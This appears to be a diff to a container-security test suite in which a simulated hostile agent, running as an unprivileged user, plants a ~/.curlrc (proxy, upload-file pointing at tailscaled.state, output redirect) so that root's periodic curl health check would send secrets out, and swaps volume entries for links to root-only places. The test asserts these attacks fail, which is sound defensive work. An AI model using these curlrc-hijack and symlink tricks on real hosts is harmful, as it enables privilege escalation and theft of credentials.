@@ -362,26 +362,43 @@ describe('contain root: a hostile agent as node against the boot script', () => 
   let targetsBefore: string;
   let plants: Record<string, { code: number; stderr: string }>;
 
-  step('the agent plants a ~/.curlrc and replaces the volume root entries with links to root-only places', async () => {
-    // Root-only places in the machine's root file system, each with a canary (kept by the restart below).
-    const canaries = TAKEN.map(
-      (name) =>
-        `mkdir -p ${TARGETS}/${name} && echo ${random(8)} >${TARGETS}/${name}/canary && chmod 600 ${TARGETS}/${name}/canary`,
-    ).join(' && ');
-    expect((await asRoot(`${canaries} && chmod 700 ${TARGETS} ${TARGETS}/*`)).code).toBe(0);
-    targetsBefore = (await asRoot(`cd ${TARGETS} && find . -printf '%p %u %g %m %s\\n' | sort && cat */canary`)).stdout;
-    before = inodes(volumeDir);
+  step(
+    'the agent plants a ~/.curlrc (proxy=, upload-file=, output=): root’s health check (watchdog, every 30 s) obeys none of it',
+    async () => {
+      // Root-only places in the machine's root file system, each with a canary (kept by the restart below).
+      const canaries = TAKEN.map(
+        (name) =>
+          `mkdir -p ${TARGETS}/${name} && echo ${random(8)} >${TARGETS}/${name}/canary && chmod 600 ${TARGETS}/${name}/canary`,
+      ).join(' && ');
+      expect((await asRoot(`${canaries} && chmod 700 ${TARGETS} ${TARGETS}/*`)).code).toBe(0);
+      targetsBefore = (await asRoot(`cd ${TARGETS} && find . -printf '%p %u %g %m %s\\n' | sort && cat */canary`))
+        .stdout;
+      before = inodes(volumeDir);
 
-    await podman(['exec', '-d', '--user', 'node', machine!.name, 'node', '-e', LISTENER]);
-    const curlrc = [
-      `proxy = http://127.0.0.1:${LISTENER_PORT}`,
-      `upload-file = ${fly.volume}/tailscale/tailscaled.state`,
-      `output = ${CURL_OUTPUT}`,
-    ].join('\\n');
-    plants = {};
-    for (const dir of [...new Set(['$HOME', fly.volume])]) {
-      plants[`curlrc in ${dir}`] = await asNode(`printf '${curlrc}\\n' >${dir}/.curlrc`);
-    }
+      await podman(['exec', '-d', '--user', 'node', machine!.name, 'node', '-e', LISTENER]);
+      const curlrc = [
+        `proxy = http://127.0.0.1:${LISTENER_PORT}`,
+        `upload-file = ${fly.volume}/tailscale/tailscaled.state`,
+        `output = ${CURL_OUTPUT}`,
+      ].join('\\n');
+      plants = {};
+      for (const dir of [...new Set(['$HOME', fly.volume])]) {
+        plants[`curlrc in ${dir}`] = await asNode(`printf '${curlrc}\\n' >${dir}/.curlrc`);
+      }
+      // One watchdog round with the .curlrc in place.
+      await sleep(35_000);
+      const effects = await curlrcEffects();
+      outcomes.curlrcWhileRunning = effects;
+      expect(effects).toEqual({
+        outputFileWrittenByRoot: false,
+        requestsToAgentListener: 0,
+        tailscaledStateUploaded: false,
+      });
+    },
+    { setup: false },
+  );
+
+  step('the agent renames the volume root’s entries and puts links to root-only places in their stead', async () => {
     for (const name of TAKEN) {
       plants[`rename ${name}`] = await asNode(`mv ${fly.volume}/${name} ${fly.volume}/${name}.stolen`);
       plants[`link ${name}`] = await asNode(
@@ -391,9 +408,6 @@ describe('contain root: a hostile agent as node against the boot script', () => 
     outcomes.plants = Object.fromEntries(
       Object.entries(plants).map(([what, result]) => [what, result.code === 0 ? 'done' : result.stderr.trim()]),
     );
-    // The watchdog runs the health check (curl, as root) every 30 s: one round with the plants in place.
-    await sleep(35_000);
-    outcomes.curlrcWhileRunning = await curlrcEffects();
   });
 
   step(
@@ -470,7 +484,6 @@ describe('contain root: a hostile agent as node against the boot script', () => 
         requestsToAgentListener: 0,
         tailscaledStateUploaded: false,
       });
-      expect(outcomes.curlrcWhileRunning).toEqual(curl);
     },
     { setup: false },
   );
